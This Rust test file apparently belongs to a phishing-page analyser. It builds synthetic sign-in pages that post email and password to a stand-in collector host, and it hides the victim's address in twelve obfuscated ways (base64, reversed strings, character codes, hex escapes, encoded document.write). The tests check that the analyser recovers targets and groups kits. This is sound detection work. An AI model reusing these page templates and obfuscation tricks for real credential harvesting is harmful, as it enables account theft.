//! Whom a page was made for: attached pages alone tell it, however the address is written into them; and pages of one
//! kit have one structure whoever they were made for.

use creel_dissect::{Limits, dissect};
use creel_evidence::dissection::Dissection;
use creel_evidence::{ObservableKind, Side};
use std::collections::{BTreeMap, BTreeSet};

/// Ways to write an address into a page.
const WAYS: [&str; 12] = [
    "value attribute",
    "value of a hidden field",
    "script variable",
    "base64 in a script",
    "backwards in a script",
    "percent-encoded in a script",
    "character codes",
    "hexadecimal escapes",
    "fragment of the collector's address",
    "base64 in the fragment",
    "data attribute in base64",
    "encoded page that holds it",
];

/// A page of the kit that writes the address in this way, made for `victim`.
fn page(way: &str, victim: &str) -> String {
    let base64 = data_encoding::BASE64.encode(victim.as_bytes());
    let backwards: String = victim.chars().rev().collect();
    let percent: String = victim.bytes().map(|b| format!("%{b:02x}")).collect();
    let codes = victim.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",");
    let escapes: String = victim.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let form = |more: &str, action: &str| {
        format!(
            "<form method=post action='{action}'><input name=email type=email {more}><input name=pw type=password>\
             <button>Sign in</button></form>"
        )
    };
    let plain = form("", "https://collector.test/in.php");
    let script = |code: String| format!("{plain}<script>{code}document.forms[0].email.value=u;</script>");
    let body = match way {
        "value attribute" => form(&format!("value='{victim}'"), "https://collector.test/in.php"),
        "value of a hidden field" => plain.replace(
            "<button>",
            &format!(
                "<input type=hidden name=user value='{victim}'><input type=hidden name=v value=2><button>"
            ),
        ),
        "script variable" => script(format!("var u = \"{victim}\";")),
        "base64 in a script" => script(format!("var u = atob('{base64}');")),
        "backwards in a script" => script(format!("var u = '{backwards}'.split('').reverse().join('');")),
        "percent-encoded in a script" => script(format!("var u = unescape('{percent}');")),
        "character codes" => script(format!("var u = String.fromCharCode({codes});")),
        "hexadecimal escapes" => script(format!("var u = '{escapes}';")),
        "fragment of the collector's address" => {
            format!("<div id=box></div>{}", form("", &format!("https://collector.test/in.php#{victim}")))
        }
        "base64 in the fragment" => {
            format!("<p><span></span></p>{}", form("", &format!("https://collector.test/in.php#{base64}")))
        }
        "data attribute in base64" => {
            plain.replace("<button>", &format!("<span data-u='{base64}'></span><button>"))
        }
        "encoded page that holds it" => {
            let inner = form(&format!("value='{victim}'"), "https://collector.test/in.php");
            let inner = data_encoding::BASE64.encode(format!("<html><body>{inner}</body></html>").as_bytes());
            format!("<script>document.write(atob(\"{inner}\"));</script>")
        }
        other => panic!("{other}"),
    };
    format!(
        "<!doctype html><html><head><title>Sign in</title></head><body><h1>Sign in</h1>{body}</body></html>"
    )
}

fn read(page: &str) -> Dissection {
    dissect(page.as_bytes(), &Limits::default()).dissection
}

fn victims(dissection: &Dissection) -> BTreeSet<&str> {
    let aimed = dissection
        .observables
        .iter()
        .filter(|o| o.kind == ObservableKind::MailAddress && o.side == Side::Victim);
    aimed.map(|observable| observable.value.as_str()).collect()
}

#[test]
fn the_recipient_is_rebuilt_from_the_attachment_alone() {
    for way in WAYS {
        for victim in ["ann.lee@corp.example", "b.okoro@clinic-north.example"] {
            let dissection = read(&page(way, victim));
            assert_eq!(victims(&dissection), BTreeSet::from([victim]), "{way}");
            let with_bytes = dissection.observables.iter().filter(|o| o.value == victim);
            assert!(with_bytes.into_iter().all(|observable| !observable.at.is_empty()), "{way}");
        }
    }
}

#[test]
fn one_kit_has_one_structure_and_two_kits_have_two() {
    let mut kits: BTreeMap<String, &str> = BTreeMap::new();
    for way in WAYS {
        let structure = |victim: &str| read(&page(way, victim)).pages[0].structure.to_string();
        let one = structure("ann.lee@corp.example");
        for other in
            ["b.okoro@clinic-north.example", "x@y.example", "frederike.longname-smith@a.b.corp.example"]
        {
            assert_eq!(one, structure(other), "{way}: {other}");
        }
        // How a literal is spelt is no structure: that one is made anew for each victim.
        if let Some(before) = kits.insert(one, way) {
            assert_eq!((before, way), ("script variable", "hexadecimal escapes"));
        }
    }
}

#[test]
fn an_address_that_the_page_sends_to_is_no_victim() {
    let dissection = read(
        "<form action='https://collector.test/in.php' method=post><input name=pw type=password></form>\
         <script>send({To: \"drop@evil.test\"})</script>",
    );
    assert_eq!(victims(&dissection), BTreeSet::new());
}
